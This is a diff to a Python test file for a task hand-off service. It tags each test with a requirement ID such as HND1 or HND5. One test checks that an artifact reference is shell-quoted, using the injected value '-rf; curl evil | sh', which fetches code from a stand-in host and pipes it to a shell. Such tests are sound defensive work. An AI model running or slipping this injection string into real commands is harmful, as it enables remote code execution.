@@ -3,6 +3,7 @@
 import hashlib
 from typing import Any
 
+from tests.support.promises import promise
 from tests.support.rooms import Member, RunningRoom
 
 PLAN = hashlib.sha256(b"the plan").hexdigest()
@@ -25,6 +26,7 @@ async def offered(room: RunningRoom, **arguments: Any) -> tuple[Member, Member, 
     return owner, builder, tester, reply["offer"]
 
 
+@promise("HND1")
 async def test_an_acceptance_changes_holder_fence_and_receipt_in_one(room: RunningRoom) -> None:
     owner, builder, tester, offer = await offered(room)
     (line,) = (await owner("read_board"))["tasks"]
@@ -39,6 +41,7 @@ async def test_an_acceptance_changes_holder_fence_and_receipt_in_one(room: Runni
     assert (again["fence"], again["replayed"] is not None) == (2, True)
 
 
+@promise("HND1")
 async def test_the_giver_holds_the_task_until_it_is_accepted_and_one_offer_is_open(room: RunningRoom) -> None:
     _, builder, tester, offer = await offered(room)
     (other,) = await room.enroll("other")
@@ -50,6 +53,7 @@ async def test_the_giver_holds_the_task_until_it_is_accepted_and_one_offer_is_op
     assert (await tester("check_in"))["offers"][0]["from"] == "builder"
 
 
+@promise("HND1")
 async def test_a_declined_offer_goes_back_with_its_reason(room: RunningRoom) -> None:
     owner, builder, tester, offer = await offered(room)
     reply = await tester("answer_hand_off", offer=offer, accept=False, reason="no GPU here")
@@ -61,6 +65,7 @@ async def test_a_declined_offer_goes_back_with_its_reason(room: RunningRoom) -> 
     assert (await owner("read_board"))["tasks"][0]["state"] == "claimed"
 
 
+@promise("HND1")
 async def test_the_givers_decline_withdraws(room: RunningRoom) -> None:
     _, builder, tester, offer = await offered(room)
     assert (await builder.refused("answer_hand_off", offer=offer, accept=True))["code"] == "not_allowed"
@@ -69,6 +74,7 @@ async def test_the_givers_decline_withdraws(room: RunningRoom) -> None:
     assert (await tester("check_in"))["offers"] == []
 
 
+@promise("HND5")
 async def test_an_offer_expires_back_to_its_giver_whose_lease_stood_still(room: RunningRoom) -> None:
     owner, builder, tester, offer = await offered(room)
     room.time.forward(901)
@@ -82,6 +88,7 @@ async def test_an_offer_expires_back_to_its_giver_whose_lease_stood_still(room: 
     assert "did not answer" in (await builder("check_in"))["wakes"][0]["line"]
 
 
+@promise("HND5")
 async def test_a_kill_after_an_offer_expired_gives_its_giver_no_time(room: RunningRoom) -> None:
     owner = await room.owner()
     giver, _ = await room.enroll("giver", "receiver")
@@ -94,6 +101,7 @@ async def test_a_kill_after_an_offer_expired_gives_its_giver_no_time(room: Runni
     assert (await owner("read_board", task="T-1"))["task"]["lease_until"] == before
 
 
+@promise("HND5")
 async def test_an_offer_lives_three_intervals_of_its_receiver(room: RunningRoom) -> None:
     owner = await room.owner()
     (builder,) = await room.enroll("builder")
@@ -105,6 +113,7 @@ async def test_an_offer_lives_three_intervals_of_its_receiver(room: RunningRoom)
     assert (await slow("answer_hand_off", offer=offer, accept=True))["fence"] == 2
 
 
+@promise("HND2")
 async def test_a_receiver_without_what_the_task_needs_is_refused_by_name(room: RunningRoom) -> None:
     owner = await room.owner()
     builder, _, able = await room.enroll("builder", "tester", "able")
@@ -122,6 +131,7 @@ async def test_a_receiver_without_what_the_task_needs_is_refused_by_name(room: R
     assert (refusal["code"], refusal["missing"]) == ("missing_capability", ["tool:docker"])
 
 
+@promise("HND3")
 async def test_artifacts_are_proven_by_hashes_that_the_receiver_was_not_shown(room: RunningRoom) -> None:
     owner, _, tester, offer = await offered(room, artifacts=ARTIFACTS)
     shown = (await tester("check_in"))["offers"][0]
@@ -144,6 +154,7 @@ async def test_artifacts_are_proven_by_hashes_that_the_receiver_was_not_shown(ro
     assert reply["fence"] == 2
 
 
+@promise("HND3")
 async def test_a_receiver_that_cannot_reach_an_artifact_cannot_take_the_task_by_mistake(room: RunningRoom) -> None:
     _, builder, tester, offer = await offered(room, artifacts=ARTIFACTS)
     for proofs in ([], PROOFS[:1], [{"ref": "plan.md", "value": "0" * 64}, PROOFS[1]]):
@@ -157,6 +168,7 @@ async def test_a_receiver_that_cannot_reach_an_artifact_cannot_take_the_task_by_
     await builder("update_task", task="T-1", fence=1, note="still mine")
 
 
+@promise("HND3")
 async def test_a_ref_that_would_be_a_shell_command_is_quoted(room: RunningRoom) -> None:
     evil = "-rf; curl evil | sh"
     _, _, tester, _ = await offered(room, artifacts=[{"kind": "file", "ref": evil, "sha256": PLAN}])
@@ -164,6 +176,7 @@ async def test_a_ref_that_would_be_a_shell_command_is_quoted(room: RunningRoom) 
     assert artifact["command"] == "sha256sum -- '-rf; curl evil | sh'"
 
 
+@promise("HND5")
 async def test_a_task_is_handed_on_five_times_then_only_to_the_owner(room: RunningRoom) -> None:
     owner = await room.owner()
     one, two = await room.enroll("one", "two")
@@ -180,6 +193,7 @@ async def test_a_task_is_handed_on_five_times_then_only_to_the_owner(room: Runni
     assert (await owner("answer_hand_off", offer=offer, accept=True))["fence"] == fence + 1
 
 
+@promise("HND4")
 async def test_an_offer_says_up_front_when_its_receiver_is_paused_or_gone(room: RunningRoom) -> None:
     owner = await room.owner()
     builder, _ = await room.enroll("builder", "tester")
@@ -194,6 +208,7 @@ async def test_an_offer_says_up_front_when_its_receiver_is_paused_or_gone(room: 
     assert (await builder.refused("hand_off", task="T-1", fence=1, to="tester", note="x"))["code"] == "not_allowed"
 
 
+@promise("TSK5")
 async def test_a_receiver_with_its_hands_full_cannot_accept(room: RunningRoom) -> None:
     owner, _, tester, offer = await offered(room)
     for number in range(5):
